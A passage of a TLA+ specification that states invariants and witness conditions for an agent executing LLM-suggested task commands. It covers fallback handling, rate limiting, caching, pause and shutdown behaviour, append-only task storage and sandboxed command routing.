\* what C15 says of one _execute_task call: one fallback request per failed
\* step and none for a step that succeeded; the fallback of every failed step
\* whose answer is of Executed was handed to the executor once, that of no
\* other step was
one_fallback(pc, log, requests, runs, Executed) ==
    /\ requests = count(log, {"skipped", "empty", "recovered", "unrecovered"})
                    + (IF pc \in {"fallback_request", "fallback_exec"}
                       THEN 1 ELSE 0)
    /\ runs = count(log, Executed)
                + (IF pc = "fallback_exec" THEN 1 ELSE 0)

\* C15 as the spec states it: every answer other than the literal "SKIP" is
\* executed once, the empty answer included.
C15_OneFallbackPerFailure ==
    /\ \A j \in in_flight :
          one_fallback(exec[j].pc, exec[j].log, exec[j].requests, exec[j].runs,
                       {"empty", "recovered", "unrecovered"})
    /\ last_done.task # 0 =>
          one_fallback("idle", last_done.log, last_done.requests,
                       last_done.runs, {"empty", "recovered", "unrecovered"})

\* C15, amended: each failed step makes exactly one fallback request and a
\* step that succeeds none; an answer that is "SKIP" or empty once stripped
\* executes nothing and the next step runs; any other answer is executed
\* exactly once, stripped, with no further request for that step.
C15_OneFallbackPerFailure_Amended ==
    /\ \A j \in in_flight :
          /\ one_fallback(exec[j].pc, exec[j].log, exec[j].requests,
                          exec[j].runs, {"recovered", "unrecovered"})
          /\ exec[j].requests <= exec[j].k
          /\ exec[j].pc = "fallback_exec" =>
                exec[j].answer \in {strip(r) : r \in FallbackResponses}
                                      \ {"SKIP", ""}
    /\ last_done.task # 0 =>
          one_fallback("idle", last_done.log, last_done.requests,
                       last_done.runs, {"recovered", "unrecovered"})

\* C15 witness: a call returned after three failed steps: one answered
\* "SKIP", one answered with the empty text, one whose fallback was executed
C15_Witness ==
    /\ last_done.task # 0
    /\ last_done.requests = 3
    /\ last_done.runs = 1
    /\ count(last_done.log, {"skipped"}) = 1
    /\ count(last_done.log, {"empty"}) = 1
    /\ count(last_done.log, {"unrecovered"}) = 1

\* C16: a file event whose path an ignore pattern names (as a glob) is
\* dropped before any processing: no on_file_change call for such a path
\* awaits the gateway's classification (workflow actions only follow it).
C16_IgnoredPathDropped ==
    \A h \in Handlers :
        handlers[h].pc = "classify" => ~glob_ignored(handlers[h].path)

TickPcs == {"read_tasks", "for_tasks", "await_task", "reanalyze_check",
            "reanalyze"}

\* C18: a tick ends in the sleep or, when it raised, in the back-off sleep,
\* never by leaving the loop; after the back-off the loop is at its head
\* again, where it starts the next tick when the agent is running; the loop
\* is left only at its head with running false.
C18_TickFailureContained ==
    [][/\ (loop_pc \in TickPcs /\ loop_pc' \notin TickPcs)
             => /\ loop_pc' \in {"sleep", "error_sleep"}
                /\ tick_failed' <=> loop_pc' = "error_sleep"
       /\ (loop_pc = "error_sleep" /\ loop_pc' # loop_pc)
             => loop_pc' = "loop_top"
       /\ (loop_pc = "loop_top" /\ loop_pc' # loop_pc)
             => IF running THEN loop_pc' = "read_tasks" /\ ticks' = ticks + 1
                ELSE loop_pc' = "stopped"
       /\ (loop_pc # "stopped" /\ loop_pc' = "stopped")
             => (loop_pc = "loop_top" /\ ~running)]_vars

\* C18 witness: the tick after one that raised has begun, the agent running
C18_Witness ==
    /\ loop_pc = "read_tasks"
    /\ tick_failed
    /\ ticks = 2
    /\ running

\* the agent is paused: running was set false by a pause request (the server
\* still serves, stop() has not run)
paused == serving /\ observer = "started" /\ ~running

\* C19: while the agent is paused no _execute_task call is started, the
\* pending tasks of the list read by the tick in progress included; the pause
\* request itself cancels nothing in flight.
C19_PauseStartsNoTask ==
    [][/\ paused => \A p \in 1..MaxTasks :
                       exec[p].pc = "idle" => exec'[p].pc = "idle"
       /\ (running /\ ~running') => (exec' = exec /\ handlers' = handlers)]_vars

\* the agent was launched: start() is past its initial analysis
launched == loop_pc \notin {"created", "initial_analysis", "crashed"}

\* C20: with the server up, an agent that is running (after a resume as well
\* as before any pause) has its main loop alive and its file watcher active.
C20_ResumeUndoesPause ==
    (serving /\ launched /\ running)
        => /\ loop_pc # "stopped"
           /\ observer = "started"

\* the commands in flight: a plan step or a fallback command of the task
\* engine, the command of a workflow action of a file-event handler
engine_commands == {p \in 1..MaxTasks : exec[p].pc \in {"step", "fallback_exec"}}
handler_commands ==
    {h \in Handlers : /\ handlers[h].pc = "action"
                      /\ workflow[handlers[h].i] = "analyze_commit"}

\* C21: when the process has exited after a shutdown, the file watcher was
\* stopped and no command was still in flight: every command the task engine
\* or a workflow handler had started ran to its result first.
C21_ShutdownDrainsCommands ==
    loop_pc = "exited" =>
        /\ observer # "started"
        /\ engine_commands = {}
        /\ handler_commands = {}

\* C22: the requests of all callers, the task engine's and the workflow
\* dispatcher's, are recorded in one rate window: the timestamps of the last
\* rate_window seconds, over every client of the agent, are at most
\* rate_limit.
C22_OneSharedWindow ==
    Len(prune(request_times, clock)) + Len(prune(analyzer_times, clock))
        <= rate_limit

\* C23: the backend invocation of a call that passed the rate window has its
\* own timestamp in the window: when the backend is invoked (the first time
\* for the call) the last timestamp recorded is the call's, and it lies in
\* the rate_window seconds before the invocation, whatever was pruned while
\* the call was suspended.
C23_InvocationHasTimestamp ==
    \A c \in Callers :
        (calls[c].pc = "backend" /\ calls[c].n = 1) =>
            /\ request_times # <<>>
            /\ request_times[Len(request_times)] = calls[c].now
            /\ calls[c].at - calls[c].now < rate_window

\* C29: a caller that found the window at the quota goes on only when the
\* oldest timestamp is rate_window seconds old, and the timestamp it records
\* then is the time at which it goes on.
C29_TimestampWhenProceeding ==
    [][\A c \in Callers :
          (calls[c].pc = "rate_sleep" /\ calls'[c].pc # "rate_sleep") =>
              /\ clock >= calls[c].wake
              /\ request_times' = Append(request_times, clock)]_vars

\* a complete call that returned the text of a cache entry (no backend
\* invocation, no failure)
hit(ret) == ret.caller # None /\ ret.n = 0 /\ ret.failure = "none"

\* C24: a use_cache call that finds an entry 24 hours old or older is not
\* answered from the cache; with a backend to call it invokes it, and when
\* the backend answers, the entry holds that answer with the time of the
\* answer.
C24_StaleEntryRefreshed ==
    (last_ret.caller # None /\ last_ret.stale) =>
        /\ ~hit(last_ret)
        /\ last_ret.failure \in {"none", "auth", "transport"} => last_ret.n >= 1
        /\ last_ret.failure = "none" =>
              cache[cache_key(last_ret.prompt)] =
                  [present |-> TRUE, response |-> last_ret.response,
                   timestamp |-> clock]

\* C24 witness: an entry written at time 0 was exactly 24 hours old when the
\* call was made; the backend was invoked once and its answer replaced it
C24_Witness ==
    /\ last_ret.caller # None
    /\ last_ret.stale
    /\ last_ret.failure = "none"
    /\ last_ret.n = 1
    /\ clock = cache_ttl
    /\ cache[cache_key(last_ret.prompt)].timestamp = clock
    /\ cache[cache_key(last_ret.prompt)].response = "ls -la"

\* C25: a call answered from the cache returns at once and leaves the rate
\* window as it was: no timestamp is recorded, no backend invoked, also when
\* the window is at the quota.
C25_HitLeavesWindow ==
    [][\A c \in Callers :
          (calls[c].pc = "idle" /\ last_ret'.caller = c /\ hit(last_ret')) =>
              /\ request_times' = request_times
              /\ backend_log' = backend_log
              /\ calls'[c].pc = "idle"]_vars

\* C25 witness: a call was answered from the cache while the window held
\* rate_limit timestamps of the last rate_window seconds
C25_Witness ==
    /\ hit(last_ret)
    /\ Len(prune(request_times, clock)) = rate_limit

\* C30: the cache changes only when a use_cache call returns the answer of a
\* backend call that succeeded.
C30_CacheWrittenOnSuccessOnly ==
    [][cache' # cache =>
          /\ last_ret'.caller # None
          /\ last_ret'.use_cache
          /\ last_ret'.failure = "none"
          /\ last_ret'.n >= 1]_vars

\* C26: no step removes or reorders a record of the task store; a record
\* that is added is pending; the status of a record changes only while the
\* task engine executes it.
C26_StoreAppendOnly ==
    [][/\ Len(tasks_json') >= Len(tasks_json)
       /\ \A p \in 1..Len(tasks_json) :
             /\ tasks_json'[p].id = tasks_json[p].id
             /\ tasks_json'[p].status # tasks_json[p].status
                   => exec[p].pc # "idle"
       /\ \A p \in (Len(tasks_json) + 1)..Len(tasks_json') :
             tasks_json'[p].status = Pending]_vars

\* C27: a task ends failed only when one of its commands failed: a task
\* whose commands all succeeded, or whose plan held no command, does not end
\* failed, whatever text the gateway returned (its fallback string, text
\* with no command in it).
C27_DegradedGatewayNeverFails ==
    (last_done.task # 0
       /\ \A k \in 1..Len(last_done.log) : last_done.log[k] = "ok")
        => done_status # "failed"

\* C27 witness: a task whose plan was the gateway's fallback string has
\* returned, its one command run with success, the task not failed
C27_Witness ==
    /\ last_done.task # 0
    /\ last_done.plan = parse_commands(DegradedPlan)
    /\ last_done.plan # <<>>
    /\ last_done.log = <<"ok">>
    /\ done_status # "failed"

\* C28: every failed plan step has triggered the fallback policy, and a task
\* with a step whose fallback command failed too shows it in its outcome.
C28_FailedResultsObserved ==
    last_done.task # 0 =>
        /\ last_done.requests =
              count(last_done.log, {"skipped", "empty", "recovered", "unrecovered"})
        /\ count(last_done.log, {"unrecovered"}) > 0 => done_status = "failed"

\* C31: a file event the observer has delivered for a path that is not
\* ignored has its on_file_change task created, the task that requests the
\* impact classification of that path.
C31_EventReachesDispatcher ==
    (delivered.path # <<>> /\ ~should_ignore(delivered.path))
        => delivered.scheduled

\* C32: the workflow runs only for a classification of severity high: a
\* call that dispatched an action, or stands in its workflow, got a text
\* that says high; a call ended by the severity test dispatched nothing and
\* raised nothing, whatever the text was (malformed and cut-off JSON, prose,
\* the empty text included); only a workflow action ends a call by raising.
C32_SeverityGatesWorkflow ==
    \A h \in HandlerIds :
        /\ handlers[h].pc \in {"action", "done"} => handlers[h].high
        /\ handlers[h].dispatched # <<>> => handlers[h].high
        /\ handlers[h].pc = "gated" =>
              /\ handlers[h].dispatched = <<>>
              /\ ~handlers[h].failed
        /\ handlers[h].failed =>
              /\ handlers[h].pc = "done"
              /\ handlers[h].dispatched # <<>>

\* C32 witness: one call was ended by the severity test, nothing dispatched,
\* while another call, classified high, stands in its workflow
C32_Witness ==
    /\ handlers["h1"].pc = "gated"
    /\ handlers["h1"].dispatched = <<>>
    /\ handlers["h2"].pc = "action"
    /\ handlers["h2"].high

C34_ProbeThenRoute ==
    /\ x_call.pc = "probe" =>
          /\ x_call.spawns = 1
          /\ procs[x_call.pid].kind = "which"
    /\ x_call.pc = "communicate" =>
          /\ x_call.spawns \in {1, 2}
          /\ x_call.spawns = 2 =>
                /\ procs[x_call.pid - 1].kind = "which"
                /\ procs[x_call.pid - 1].state = "reaped"
          /\ IF x_call.spawns = 2 /\ opencore_present
             THEN /\ procs[x_call.pid].kind = "opencore"
                  /\ {"--silent", "--sandbox"} \subseteq procs[x_call.pid].flags
             ELSE procs[x_call.pid].kind = "shell"
    /\ last_result.kind \in {"completed", "timeout"} =>
          /\ last_result.spawns \in {1, 2}
          /\ DOMAIN last_result =
                {"command", "spawns", "kind", "success", "output", "error",
                 "exit_code"}

\* C34 witness: with the helper installed, one call whose probe could not be
\* started completed in the host shell, and a later call is running its
\* command through the helper
C34_Witness ==
    /\ opencore_present
    /\ x_call.pc = "communicate"
    /\ procs[x_call.pid].kind = "opencore"
    /\ \E pid \in 1..Len(procs) :
          /\ procs[pid].kind = "shell"
          /\ procs[pid].state = "reaped"

\* C35: execute never raises: it ends with one of its three return
\* statements, and the one of the except branch gives success false, empty
\* output, the exception text as error, and exit code -1.
C35_ExecuteNeverRaises ==
    /\ last_result.kind \in {"none", "completed", "timeout", "exception"}
    /\ last_result.kind = "exception" =>
          /\ ~last_result.success
          /\ last_result.output = ""
          /\ last_result.error = "[Errno 12] Cannot allocate memory"
          /\ last_result.exit_code = -1
    /\ batch.pc = "returned" =>
          \A n \in 1..Len(batch.results) : batch.results[n].kind # "raised"

\* C35 witness: the command's process could not be created after a probe
\* that ran, and execute returned the exception result
C35_Witness ==
    /\ last_result.kind = "exception"
    /\ last_result.spawns = 1
    /\ x_call.pc = "idle"
    /\ Len(procs) >= 1
    /\ procs[Len(procs)].kind = "which"

\* C38: every result of execute has success true exactly when its exit code
\* is 0; the timeout and the exception results have success false and exit
\* code -1.
C38_SuccessIffExitZero ==
    /\ last_result.kind # "none" =>
          /\ last_result.success <=> (last_result.exit_code = 0)
          /\ last_result.kind \in {"timeout", "exception"} =>
                /\ ~last_result.success
                /\ last_result.exit_code = -1
    /\ \A n \in 1..Len(batch.results) :
          batch.results[n].success <=> (batch.results[n].exit_code = 0)

\* C38 witness: a command ran to its end with a return code other than 0
\* and its result says success false with that exit code
C38_Witness ==
    /\ last_result.kind = "completed"
    /\ last_result.exit_code = 1
    /\ ~last_result.success

\* C36: over the lifetime of the agent _execute_task is called at most once
\* for a task, so its plan is executed at most once.
C36_PlanExecutedAtMostOnce ==
    \A p \in 1..MaxTasks : times_started[p] <= 1

\* C37: whatever the engine is doing, the only change the task file sees is
\* a POST /tasks appending one pending record with a new id behind the
\* records already there: no record is lost, duplicated or reordered.
C37_NoAppendLost ==
    [][tasks_json' # tasks_json =>
          /\ Len(tasks_json') = Len(tasks_json) + 1
          /\ SubSeq(tasks_json', 1, Len(tasks_json)) = tasks_json
          /\ tasks_json'[Len(tasks_json')].status = Pending
          /\ \A n \in 1..Len(tasks_json) :
                tasks_json[n].id # tasks_json'[Len(tasks_json')].id]_vars

\* C37 witness: a second task was created while the engine, in a tick that
\* read a list of one, awaits the execution of that one; both are pending
C37_Witness ==
    /\ Len(tasks_json) = 2
    /\ Len(snapshot) = 1
    /\ loop_pc = "await_task"
    /\ exec[1].pc # "idle"
    /\ \A n \in 1..2 : tasks_json[n].status = Pending
    /\ tasks_json[1].id # tasks_json[2].id

\* C39: a complete call with use_cache false leaves the cache as it is from
\* its first step to its return, is never answered from the cache, and goes
\* through the rate limiter (it sleeps there, or records its timestamp and
\* goes on) to the backend; only a gateway with no backend to call (provider
\* not supported, package missing) returns without a backend call.
C39_UncachedCallLeavesCache ==
    [][\A c \in Callers :
          LET f == calls[c]
              g == calls'[c]
              recorded == /\ Len(request_times') >= 1
                          /\ request_times'[Len(request_times')] = clock
          IN  /\ (f.pc # "idle" /\ ~f.use_cache) => cache' = cache
              /\ (f.pc = "idle" /\ g.pc # "idle" /\ ~g.use_cache) =>
                    /\ cache' = cache
                    /\ \/ g.pc = "rate_sleep"
                       \/ g.pc = "backend" /\ g.n = 1 /\ recorded
              /\ (/\ f.pc = "idle"
                  /\ g.pc = "idle"
                  /\ last_ret' # last_ret
                  /\ last_ret'.caller = c
                  /\ ~last_ret'.use_cache) =>
                    /\ cache' = cache
                    /\ provider # "openai" \/ ~openai_installed
                    /\ last_ret'.failure \in {"provider", "import"}
                    /\ recorded
              /\ (f.pc = "rate_sleep" /\ ~f.use_cache /\ g.pc # "rate_sleep") =>
                    /\ Len(request_times') = Len(request_times) + 1
                    /\ (provider = "openai" /\ openai_installed) =>
                          g.pc = "backend"]_vars

\* C39 witness: a use_cache false call returned the backend's answer while
\* the cache held a fresh entry for the same prompt with another response
C39_Witness ==
    /\ last_ret.caller # None
    /\ ~last_ret.use_cache
    /\ last_ret.n >= 1
    /\ last_ret.failure = "none"
    /\ cache[cache_key(last_ret.prompt)].present
    /\ fresh(clock - cache[cache_key(last_ret.prompt)].timestamp)
    /\ cache[cache_key(last_ret.prompt)].response # last_ret.response
    /\ cached_truthy(cache[cache_key(last_ret.prompt)].response)

\* C40: the timestamps of the rate window are in non-decreasing order, so
\* the first one is the oldest.
C40_WindowSorted ==
    \A i \in 1..Len(request_times), j \in 1..Len(request_times) :
        i < j => request_times[i] <= request_times[j]

====
